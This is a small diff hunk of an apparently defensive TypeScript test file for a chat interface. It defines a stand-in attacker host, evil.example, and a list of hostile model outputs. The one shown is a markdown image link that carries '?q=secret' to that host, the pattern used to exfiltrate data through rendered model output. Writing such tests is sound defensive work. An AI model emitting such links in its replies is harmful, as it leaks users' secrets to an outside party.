@@ -7,7 +7,7 @@ import { openChat } from '../kit/web/chat.ts'
 
 const EVIL = 'https://evil.example'
 
-/** What a model may write, by what it tries to have loaded, run or believed. */
+/** Hostile output of a model, by its purpose: to load, run or fake something. */
 const attacks = {
   pictures: [
     `![chart](${EVIL}/1.png?q=secret)`,
